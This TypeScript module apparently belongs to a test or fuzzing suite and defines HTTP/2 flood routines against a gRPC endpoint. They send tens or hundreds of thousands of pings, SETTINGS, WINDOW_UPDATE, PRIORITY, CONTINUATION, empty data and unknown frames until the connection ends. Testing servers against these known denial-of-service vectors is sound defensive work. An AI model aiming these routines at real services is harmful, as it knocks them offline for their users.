import { endHeaders, endStream, flood, four, lookUp, untilEnded } from "./attack-flood.ts";
import { callFields, fieldBlock, frame, frameType } from "./fuzz-frames.ts";
import { envelope } from "./raw-http.ts";

const nothing = Buffer.alloc(0);
const watch = fieldBlock(callFields("/users.v1.UserService/StreamUserEvents", "application/grpc"));
const ping = frame(frameType.ping, 0, 0, Buffer.from("sameping"));
/** ENABLE_PUSH=0, some times over. */
const settings = frame(frameType.settings, 0, 0, Buffer.alloc(48, Buffer.of(0, 2, 0, 0, 0, 0)));
const widen = four(1);
const openCall = frame(frameType.headers, endHeaders, 1, lookUp);
const openStream = [
  frame(frameType.headers, endHeaders, 1, watch),
  frame(frameType.data, endStream, 1, envelope("")),
];
const priority = Buffer.concat([four(0), Buffer.of(5)]);

/** Floods of control frames, each larger than any connection may survive. */
export const controlFloods = {
  pings: (url: string) =>
    untilEnded(flood(url, { count: 180_000, awaited: frameType.ping, frame: () => ping })),
  pingsUnread: (url: string) => untilEnded(flood(url, { count: 400_000, reads: false, frame: () => ping })),
  settings: (url: string) =>
    untilEnded(flood(url, { count: 90_000, awaited: frameType.settings, frame: () => settings })),
  settingsUnread: (url: string) =>
    untilEnded(flood(url, { count: 100_000, reads: false, frame: () => settings })),
  connectionWindow: (url: string) =>
    untilEnded(flood(url, { count: 200_000, frame: () => frame(frameType.windowUpdate, 0, 0, widen) })),
  streamWindow: (url: string) =>
    untilEnded(
      flood(url, {
        count: 200_000,
        opening: openStream,
        frame: () => frame(frameType.windowUpdate, 0, 1, widen),
      }),
    ),
  priorities: (url: string) =>
    untilEnded(
      flood(url, {
        count: 200_000,
        frame: (at) => frame(frameType.priority, 0, 1 + 2 * (at % 1_000), priority),
      }),
    ),
  unknownFrames: (url: string) =>
    untilEnded(flood(url, { count: 200_000, frame: () => frame(0x77, 0, 0, nothing) })),
  emptyData: (url: string) =>
    untilEnded(
      flood(url, { count: 200_000, opening: [openCall], frame: () => frame(frameType.data, 0, 1, nothing) }),
    ),
  paddingOnly: (url: string) =>
    untilEnded(
      flood(url, {
        count: 200_000,
        opening: [openCall],
        frame: () => frame(frameType.data, 8, 1, Buffer.of(0)),
      }),
    ),
  continuations: (url: string) =>
    untilEnded(
      flood(url, {
        count: 50_000,
        opening: [frame(frameType.headers, 0, 1, lookUp)],
        frame: (at) => frame(frameType.continuation, 0, 1, fieldBlock([[`x-${at}`, "y".repeat(100)]])),
      }),
    ),
  emptyContinuations: (url: string) =>
    untilEnded(
      flood(url, {
        count: 50_000,
        opening: [frame(frameType.headers, 0, 1, lookUp)],
        frame: () => frame(frameType.continuation, 0, 1, nothing),
      }),
    ),
  namelessFields: (url: string) =>
    untilEnded(
      flood(url, {
        count: 50_000,
        frame: (at) =>
          frame(
            frameType.headers,
            endHeaders | endStream,
            1 + 2 * at,
            Buffer.concat([lookUp, Buffer.alloc(60)]),
          ),
      }),
    ),
};
